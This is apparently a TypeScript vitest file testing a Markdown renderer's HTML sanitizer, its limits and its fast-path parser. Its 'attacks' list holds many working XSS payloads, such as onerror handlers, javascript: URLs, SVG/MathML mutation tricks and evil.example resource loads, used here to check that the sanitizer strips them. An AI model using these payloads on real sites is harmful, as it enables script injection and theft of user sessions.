import fc from 'fast-check'
import type { Element, ElementContent, Nodes, Root } from 'hast'
import { raw } from 'hast-util-raw'
import { type Schema, sanitize } from 'hast-util-sanitize'
import { toHtml } from 'hast-util-to-html'
import type { Root as Mdast } from 'mdast'
import remarkGfm from 'remark-gfm'
import remarkParse from 'remark-parse'
import { unified } from 'unified'
import { describe, expect, test } from 'vitest'
import { runs } from '../../../test/setup/sizes.ts'
import { componentStrings as strings } from '../../components/base/strings.ts'
import { createLink } from '../link.ts'
import { isPlain, normalise, plainParagraphs } from './plain.ts'
import { inlineTags, specSchema } from './schema.ts'
import { plainSpecText, renderSpecInline, renderSpecMarkdown } from './spec-markdown.ts'
import { parseSpec, specTree } from './tree.ts'

const options = { link: createLink('/docs') }
const html = (text: string) => renderSpecMarkdown(text, options).html
const inline = (text: string) => renderSpecInline(text, options)
const code = (text: string) =>
  `<div class="o-code o-bare"><pre tabindex="0" role="group" aria-label="Code"><code>${text}</code></pre></div>`
const box = '<div class="o-table" tabindex="0" role="group" aria-label="Table">'
const lazy = 'loading="lazy" decoding="async"'

describe('Markdown in a spec', () => {
  test.each([
    ['', ''],
    ['The name of a user_id, 5 < 6 & so on.', '<p>The name of a user_id, 5 &lt; 6 &amp; so on.</p>'],
    ['One paragraph\nof two lines.\n\nAnother.', '<p>One paragraph\nof two lines.</p>\n<p>Another.</p>'],
    [
      'Some *soft*, **loud** and ~~old~~ `a<b`',
      '<p>Some <em>soft</em>, <strong>loud</strong> and <del>old</del> <code>a&lt;b</code></p>',
    ],
    ['- a\n- b', '<ul>\n<li>a</li>\n<li>b</li>\n</ul>'],
    ['3. a', '<ol start="3">\n<li>a</li>\n</ol>'],
    ['> quoted', '<blockquote>\n<p>quoted</p>\n</blockquote>'],
    ['a  \nb', '<p>a<br>\nb</p>'],
    // Newlines and indentation of the source.
    ['a\r\n\r\nb', '<p>a</p>\n<p>b</p>'],
    ['\n    from a YAML block\n\n    - a\n', '<p>from a YAML block</p>\n<ul>\n<li>a</li>\n</ul>'],
    // HTML in older specs.
    ['a<br/>b <b>c</b> x<sup>2</sup>', '<p>a<br>b <b>c</b> x<sup>2</sup></p>'],
    ['<p>One</p><p>Two <i>three</i></p>', '<p>One</p><p>Two <i>three</i></p>'],
    [
      "<a href='https://example.com/?a=1&b=2'>x</a>",
      '<p><a href="https://example.com/?a=1&amp;b=2" rel="noreferrer">x</a></p>',
    ],
    [
      '<a href="https://example.com">https://example.com</a>',
      '<p><a href="https://example.com" rel="noreferrer">https://example.com</a></p>',
    ],
    [
      '<details><summary>More</summary>\n\n**text**\n\n</details>',
      '<details><summary>More</summary>\n<p><strong>text</strong></p>\n</details>',
    ],
    [
      '<abbr title="Application">App</abbr> <kbd>x</kbd>',
      '<p><abbr title="Application">App</abbr> <kbd>x</kbd></p>',
    ],
    ['<ul><li>a<li>b</ul>words after', '<ul><li>a</li><li>b</li></ul><p>words after</p>'],
    ['<!-- note -->\n\na', '\n<p>a</p>'],
    // Links and images.
    [
      '[a](/guide.md#b) [c](d) [e](#f)',
      '<p><a href="/docs/guide#b">a</a> <a href="d">c</a> <a href="#f">e</a></p>',
    ],
    ['[a](//cdn.example/x "Title")', '<p><a href="//cdn.example/x" title="Title" rel="noreferrer">a</a></p>'],
    [
      '[a](mailto:a@b.example) [b](tel:+1)',
      '<p><a href="mailto:a@b.example">a</a> <a href="tel:+1">b</a></p>',
    ],
    ['[a](HTTPS://example.com)', '<p><a href="HTTPS://example.com" rel="noreferrer">a</a></p>'],
    [
      'See https://example.com.',
      '<p>See <a href="https://example.com" rel="noreferrer">https://example.com</a>.</p>',
    ],
    ['a [](/empty)', '<p>a </p>'],
    ['[![](/a.png)](/b)', `<p><img src="/docs/a.png" alt="" ${lazy}></p>`],
    [
      '![A cat](https://example.com/a.png)',
      `<p><img src="https://example.com/a.png" alt="A cat" ${lazy}></p>`,
    ],
    ['<img src="a.png" width="20">', `<p><img src="a.png" alt="" width="20" ${lazy}></p>`],
    // Headings start below the page's own without gaps.
    ['# A\n\n### B\n\n## C\n\n# D', '<h3>A</h3>\n<h4>B</h4>\n<h4>C</h4>\n<h3>D</h3>'],
    ['### A\n\n# B\n\n## C', '<h3>A</h3>\n<h3>B</h3>\n<h4>C</h4>'],
    [
      '# 1\n## 2\n### 3\n#### 4\n##### 5\n###### 6',
      '<h3>1</h3>\n<h4>2</h4>\n<h5>3</h5>\n<h6>4</h6>\n<h6>5</h6>\n<h6>6</h6>',
    ],
    ['#\n\na', '\n<p>a</p>'],
    // Code and tables.
    ['```json\n{"a": 1}\n```', code('{"a": 1}').replace('<code>', '<code class="language-json">')],
    ['<pre>a<br><b>b</b></pre>', code('a\nb')],
    [
      '|a|\n|-:|\n|b|',
      `${box}<table>\n<thead>\n<tr>\n<th scope="col" align="right">a</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td align="right">b</td>\n</tr>\n</tbody>\n</table></div>`,
    ],
    [
      '<table><tr><th scope=row>a<td colspan=2>b</table>',
      `${box}<table><tbody><tr><th scope="row">a</th><td colspan="2">b</td></tr></tbody></table></div>`,
    ],
    [
      '- [x] a',
      '<ul class="contains-task-list">\n<li class="task-list-item"><input type="checkbox" checked disabled aria-label="done"> a</li>\n</ul>',
    ],
    ['A[^1]\n\n[^1]: Note', '<p>A<sup>1</sup></p>\n\n<ol>\n<li>\n<p>Note </p>\n</li>\n</ol>\n'],
    // Never parsed as MDX.
    ['{expr} <Card>kept</Card>\nimport x from "y"', '<p>{expr} kept\nimport x from "y"</p>'],
    ['{/* not a comment */}', '<p>{/* not a comment */}</p>'],
    ['---\ntitle: x\n---', '<hr>\n<h3>title: x</h3>'],
  ])('renders %j', (text, expected) => {
    expect(html(text)).toBe(expected)
  })

  test('starts headings at the given level', () => {
    expect(renderSpecMarkdown('## A\n\n### B', { ...options, headingLevel: 5 }).html).toBe(
      '<h5>A</h5>\n<h6>B</h6>',
    )
  })

  test('returns links as written without rejected ones', () => {
    const text = '[a](/a.md) <a href="b#c">d</a> https://e.example [x](javascript:alert) [](/empty)'
    expect(renderSpecMarkdown(text, options).links).toEqual(['/a.md', 'b#c', 'https://e.example'])
  })
})

describe('inline Markdown', () => {
  test.each([
    ['Only `code` and *that*', 'Only <code>code</code> and <em>that</em>'],
    ['First\nparagraph\n\nSecond', 'First paragraph'],
    ['# Title\n\nWords', 'Words'],
    ['# Title', 'Title'],
    ['- [x] first\n- second', 'first'],
    ['> a<br>b', 'a b'],
    ['<div><p>a</p><p>b</p></div>', 'a'],
    ['<span><div>a</div></span> b', 'a'],
    ['- <b><p>a</p></b> b', '<b>a</b> b'],
    ['```js\nlet a\nlet b\n```', '<code class="language-js">let a let b</code>'],
    ['<script>x</script>', ''],
  ])('renders %j', (text, expected) => {
    expect(inline(text)).toBe(expected)
  })
})

describe('plain text', () => {
  test.each([
    ['A *b* `c<d` [e](/f) &amp; more', 'A b c<d e & more'],
    ['# Title\n\nWords\n\n```\ncode\n```\n\n- a\n- b', 'Words a b'],
    ['# Title', 'Title'],
    ['<p>a</p><p>b</p><script>c</script>', 'a b'],
  ])('is extracted from %j', (text, expected) => {
    expect(plainSpecText(text)).toBe(expected)
  })

  test.each([
    ['one two three', 13, 'one two three'],
    ['one two, three', 13, 'one two…'],
    ['one two three', 8, 'one two…'],
    ['abcdefghij', 5, 'abcd…'],
    ['abc😀😀😀', 5, 'abc…'],
  ])('is cut: %j to %i characters', (text, limit, expected) => {
    expect(plainSpecText(text, limit)).toBe(expected)
  })
})

/** After sanitizing, none may contain anything that a browser runs, loads or follows. */
const attacks = [
  '<script>alert(1)</script>',
  '<script src=//evil.example/x.js>',
  '<scr<script>ipt>alert(1)</script>',
  '</p><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x`" onerror="alert(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<img src=javascript:alert(1)>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img srcset="x 1x, //evil.example/p 2x">',
  '<img src=//evil.example/p>',
  '<img src=/\\evil.example/p>',
  '<img alt="--><script>alert(1)</script>">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><g title="</style><img src onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<iframe src="javascript:alert(1)">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"><b>x</b></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<input type=image src=//evil.example/p>',
  '<select autofocus onfocus=alert(1)><option>x</select>',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
  '<title><img title="</title><img src=x onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<style>@import "//evil.example"</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href=//evil.example>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div class="overlay" id="app">x</div>',
  '<a name="getElementById">x</a>',
  '<img name="cookie" id="body">',
  '<details open ontoggle=alert(1)>x</details>',
  '<video src=x onerror=alert(1)></video>',
  '<audio autoplay onplay=alert(1)>',
  '<body onload=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<isindex action=javascript:alert(1)>',
  '<xmp><script>alert(1)</script></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  '<!--<img src="--><img src=x onerror=alert(1)>">',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="\x01javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#9;script:alert(1)">x</a>',
  '<a href="java&Tab;script&colon;alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6a&#x61vascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="blob:https://x/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="view-source:javascript:alert(1)">x</a>',
  '<a href="https:javascript:alert(1)">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="/a" ping="//evil.example" target="x" download onclick=alert(1)>x</a>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT&colon;alert(1))',
  '[x](java&NewLine;script:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](\x01javascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](javascript\\:alert(1))',
  '[x]: javascript:alert(1)\n\n[x]',
  '![x](javascript:alert(1))',
  '![x" onerror="alert(1)](y)',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '[x](/y "title\\" onmouseover=\\"alert(1)")',
  '<javascript:alert(1)>',
  '<data:text/html,x>',
  '```"><script>alert(1)</script>\nx\n```',
  '``` "onmouseover=alert(1)\nx\n```',
  '| <script> |\n|-|\n| alert(1) |',
  '</div></div></body></html>',
  '<table><tr><td></div><script>alert(1)</script>',
  '<a href="x"><table><a href="javascript:alert(1)">y</a></table>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
]

const outputSchema: Schema = {
  ...specSchema,
  attributes: {
    ...specSchema.attributes,
    a: [...specSchema.attributes!.a!, 'rel'],
    div: [['className', 'o-table', 'o-code', 'o-bare'], 'tabIndex', 'role', 'ariaLabel'],
    img: [...specSchema.attributes!.img!, 'loading', 'decoding'],
    input: [...specSchema.attributes!.input!, 'ariaLabel'],
    pre: ['tabIndex', 'role', 'ariaLabel'],
  },
}

/** The page as a browser parses it. */
function parseAsBrowser(inside: string): Root {
  const page = `<div>${inside}</div><i></i>`
  return raw({ type: 'root', children: [{ type: 'raw', value: page }] }) as Root
}

function elements(node: Nodes): Element[] {
  const inside = 'children' in node ? (node.children as ElementContent[]).flatMap(elements) : []
  return node.type === 'element' ? [node, ...inside] : inside
}

function dangersIn(inside: string, tags: readonly string[]): string[] {
  const page = parseAsBrowser(inside)
  const [home, after] = page.children
  const escaped = page.children.length !== 2 || after?.type !== 'element' || after.tagName !== 'i'
  const dangers = elements(home as Nodes)
    .slice(1)
    .flatMap(({ tagName, properties }) => [
      ...(tags.includes(tagName) ? [] : [`<${tagName}>`]),
      ...Object.entries(properties).flatMap(([name, value]) => {
        if (/^(on.*|style|id|name|srcSet|target|ping|formAction)$/i.test(name)) return [`${tagName} ${name}`]
        if (name !== 'href' && name !== 'src') return []
        const { protocol, origin } = new URL(String(value), 'https://here.invalid')
        const allowed = name === 'src' ? ['https:'] : ['http:', 'https:', 'mailto:', 'tel:']
        const sneaked =
          name === 'src' && origin !== 'https://here.invalid' && !String(value).startsWith('https:')
        return allowed.includes(protocol) && !sneaked ? [] : [`${tagName} ${name}=${value}`]
      }),
    ])
  const changed =
    toHtml(sanitize(page, { ...outputSchema, tagNames: [...tags, 'div', 'i'] })) !== toHtml(page)
  return [...(escaped ? ['leaves its place'] : []), ...dangers, ...(changed ? ['not clean'] : [])]
}

function expectSafe(text: string): void {
  expect(dangersIn(html(text), specSchema.tagNames!)).toEqual([])
  expect(dangersIn(inline(text), inlineTags)).toEqual([])
  expect(plainSpecText(text)).not.toMatch(/[\n\r\0]/)
}

describe('hostile Markdown', () => {
  test.each(['a\0b', 'a\0**b**', '`a\0b`'])('contains no null character: %j', (text) => {
    expect(html(text)).not.toContain('\0')
    expect(html(text)).toContain('a\uFFFD')
  })

  test.each(attacks)('is sanitized: %j', (text) => {
    expectSafe(text)
    expectSafe(`words ${text} words`)
    expectSafe(`- ${text}`)
  })

  test.each([
    ['<script>alert(1)</script>after', '<p>after</p>'],
    ['<a href="javascript:alert(1)">text stays</a>', '<p>text stays</p>'],
    ['![text stays](data:image/png;base64,x)', '<p>text stays</p>'],
    ['<div id="app" class="x" style="y" onclick="z">kept</div>', '<div>kept</div>'],
    ['<form><input value=x>kept</form>', '<p>kept</p>'],
    ['<svg><text>drawn</text></svg><object>x</object>', ''],
    ['- <input type="checkbox"> enabled', '<ul>\n<li> enabled</li>\n</ul>'],
    ['<td>lonely</td>', '<p>lonely</p>'],
    [`[long](/${'x'.repeat(3000)})`, '<p>long</p>'],
    ['[`code`](http:x) [b](http://[)', '<p><code>code</code> b</p>'],
  ])('keeps harmless parts: %j', (text, expected) => {
    expect(html(text)).toBe(expected)
  })

  test('is detected by the check itself', () => {
    expect(dangersIn('<img src=x onerror=a><a href="java\tscript:a">b</a>', ['img', 'a'])).toEqual([
      'img onError',
      'a href=java\tscript:a',
      'not clean',
    ])
    expect(dangersIn('</div><p>', ['p'])).toContain('leaves its place')
    expect(dangersIn('<svg></svg>', ['p'])).toContain('<svg>')
    expect(dangersIn('<img src=//evil.example>', ['img'])).toContain('img src=//evil.example')
  })

  const markdown = [
    '*',
    '**',
    '_',
    '`',
    '```\n',
    '[',
    '](',
    ')',
    '![',
    '> ',
    '- ',
    '\n',
    '\n\n',
    '|',
    '|-|\n',
    '<',
    '>',
    '"',
    "'",
    '&',
    '\\',
    '<b>',
    '</b>',
    '<p>',
    '<a href=',
    '<table>',
    '<td>',
    '# ',
    'text',
    '    ',
    '\t',
    '\0',
    '[x]: ',
    '<!--',
    '-->',
    'javascript:',
    '//',
    ':',
    '😀',
  ]

  test('is safe in any combination', () => {
    const part = fc.oneof(
      fc.constantFrom(...attacks),
      fc.constantFrom(...markdown),
      fc.string({ maxLength: 6 }),
    )
    fc.assert(
      fc.property(fc.array(part, { maxLength: 12 }), (parts) => expectSafe(parts.join(''))),
      { numRuns: runs(1500) },
    )
  })

  test('has no unsafe link or image URL', () => {
    const part = fc.constantFrom(
      'java',
      'script',
      'data',
      'http',
      's',
      ':',
      '/',
      '\\',
      '\t',
      '\n',
      '\0',
      ' ',
      '#',
      '?',
      '&#58;',
      '&Tab;',
      '%0a',
      '\u2028',
      '\ufeff',
      'x',
      '@',
      '.',
      'mailto',
    )
    fc.assert(
      fc.property(fc.array(part, { maxLength: 8 }), (parts) => {
        const address = parts.join('')
        expectSafe(`<a href="${address}">x</a> <img src="${address}">`)
        expectSafe(`[x](<${address}>) ![x](${address})\n\n[x]: ${address}`)
      }),
      { numRuns: runs(1500) },
    )
  })
})

describe('limits', () => {
  test.each([
    ['size', 'a'.repeat(256 * 1024 + 1)],
    ['depth', '>'.repeat(101)],
    ['depth', '<div>'.repeat(101)],
    ['depth', '*a **b '.repeat(51) + 'c** d* '.repeat(51)],
    ['nodes', 'a *b* '.repeat(5001)],
    ['nodes', '<br>'.repeat(10_001)],
    // Few characters that would become very many nodes.
    ['nodes', `${Array.from({ length: 500 }, (_, at) => `<b x${at}>`).join('')}${'<p>x'.repeat(500)}`],
    ['nodes', '&amp;'.repeat(3500)],
    ['nodes', 'www.a.b<pre>'.repeat(2100)],
  ] as const)('shows text over the %s limit as written', (over, text) => {
    const rendered = renderSpecMarkdown(text, options)
    expect(rendered.over).toBe(over)
    expect(rendered.links).toEqual([])
    const shown = text
      .slice(0, 256 * 1024)
      .trimEnd()
      .replace(/&/g, '&amp;')
      .replace(/</g, '&lt;')
    expect(rendered.html).toBe(code(shown))
    expect(inline(text).length).toBeLessThan(6000)
    expect(plainSpecText(text).length).toBeLessThanOrEqual(160)
  })

  test.each([
    ['nested 90 deep', `${'> '.repeat(45)}${'<div>'.repeat(40)}`],
    ['of 4,000 list items', '- a\n'.repeat(3000)],
    ['of 250 KB of words', 'some plain words, '.repeat(14_000)],
    ['of many entities in many paragraphs', 'a &amp; b &lt; c\n\n'.repeat(3000)],
  ])('accepts a text %s', (_, text) => {
    expect(renderSpecMarkdown(text, options).over).toBeUndefined()
  })

  test.each(['[a] ', '![a] ', '[b][a] '])('does not repeat a long definition for every %j', (use) => {
    const text = `[a]: /${'x'.repeat(1500)} "${'y'.repeat(400)}"\n\n${use.repeat(3000)}`
    expect(html(text).length).toBeLessThan(300_000)
  })

  test('does not repeat a long URL in every paragraph', () => {
    const text = `<a href="/${'x'.repeat(100_000)}" title="${'y'.repeat(100_000)}">${'<p>x'.repeat(1000)}`
    expect(html(text).length).toBeLessThan(100_000)
  })

  const long = 100_000
  test.each(
    [
      '[',
      '![',
      '[a](',
      '*a ',
      '*a_ ',
      '**x* ',
      '> ',
      '>',
      '- ',
      '1. ',
      '<',
      '<a ',
      '<!--',
      '<b>',
      '<div>',
      '<b><p>',
      '`a``',
      '&amp;',
      '\\',
      '|',
      '[a]: /u\n[a] ',
      '[^1]',
      'a@b.',
      'www.a.',
      'a\n=\n',
      '<table>',
      '<svg><b>',
      '\n',
      ' ',
      '\t',
      '~',
    ].map((unit) => [unit]),
  )('renders 100 KB of %j quickly', (unit) => {
    const text = unit.repeat(long / unit.length)
    const start = performance.now()
    renderSpecMarkdown(text, options)
    renderSpecInline(text, options)
    plainSpecText(text)
    expect(performance.now() - start).toBeLessThan(20_000)
  })
})

const decorateOptions = { ...options, headingLevel: 3, strings }
const standard = unified().use(remarkParse).use(remarkGfm)

function renderWith(text: string, parse: (text: string) => Mdast): string {
  const result = specTree(text, decorateOptions, parse)
  return result.kind === 'tree'
    ? toHtml(result.root, { characterReferences: { useNamedReferences: true } })
    : result.over
}

describe('the fast path', () => {
  test('matches the standard parser', () => {
    const block = fc.constantFrom(
      'Words with *stress*, **weight** and `code`.',
      'A [link](/a "b"), a [reference][r] and https://example.com/x_(y).',
      '- a\n- b\n\n  c\n  - d',
      '1. a\n2. b\n   ```js\n   let a\n   ```',
      '> quote\nlazy\n> - list',
      '| a | b |\n|:--|--:|\n| `c` | d \\| e |',
      '<div>\n\n*a*\n\n</div>',
      '<p>one <b>two</b><br/>\nthree</p>',
      'a <span class="x">b *c*</span> &lt;d&gt; &copy; \\* e',
      '# Title #\n\nOther\n=====',
      '- [ ] to do\n- [x] done',
      '    indented code',
      'hard  \nbreak\\\nhere ~~gone~~',
      'Note[^n].',
      '***',
      '{a} <B c={d}/> import x',
    )
    const ends = '\n\n[r]: /there\n\n[^n]: A note.'
    fc.assert(
      fc.property(fc.array(block, { minLength: 1, maxLength: 6 }), (blocks) => {
        const text = blocks.join('\n\n') + ends
        expect(renderWith(text, parseSpec)).toBe(renderWith(text, (source) => standard.parse(source)))
      }),
      { numRuns: runs(300) },
    )
  })

  test('matches the parser for plain text', () => {
    const part = fc.oneof(
      {
        weight: 4,
        arbitrary: fc.constantFrom(
          'word',
          'Two words',
          ' ',
          ', ',
          '. ',
          'a_b',
          '5',
          '(x)',
          "it's",
          '\n',
          '\n\n',
        ),
      },
      {
        weight: 1,
        arbitrary: fc.constantFrom(
          '-',
          '=',
          ':',
          '[a]',
          '!',
          '|',
          '#',
          '+',
          '<',
          '>',
          '&',
          ' & ',
          ' < ',
          '1.',
          '1)',
          '_',
          '$',
          '{',
          '^',
          '"',
          '%',
          '/',
          '\u00a0',
          'é',
          '😀',
          'www',
          '://',
          '---',
          '===',
          '\t',
        ),
      },
    )
    let plain = 0
    fc.assert(
      fc.property(fc.array(part, { minLength: 1, maxLength: 8 }), (parts) => {
        const text = normalise(parts.join(''))
        if (!isPlain(text)) return
        plain += 1
        expect(plainParagraphs(text)).toBe(renderWith(text, parseSpec))
      }),
      { numRuns: runs(4000) },
    )
    expect(plain).toBeGreaterThan(runs(400))
  })

  test.each([
    '*a*',
    '`a`',
    '- a',
    '1. a',
    '# a',
    '> a',
    '<b>',
    '&amp;',
    'www.a.example',
    'a@b.example',
    'a  \nb',
    '_a_',
    '[a](b)',
    'a\n---',
    '~a~',
    '\\*',
    '[a]: b',
  ])('is not used for %j', (text) => {
    expect(isPlain(text)).toBe(false)
  })
})
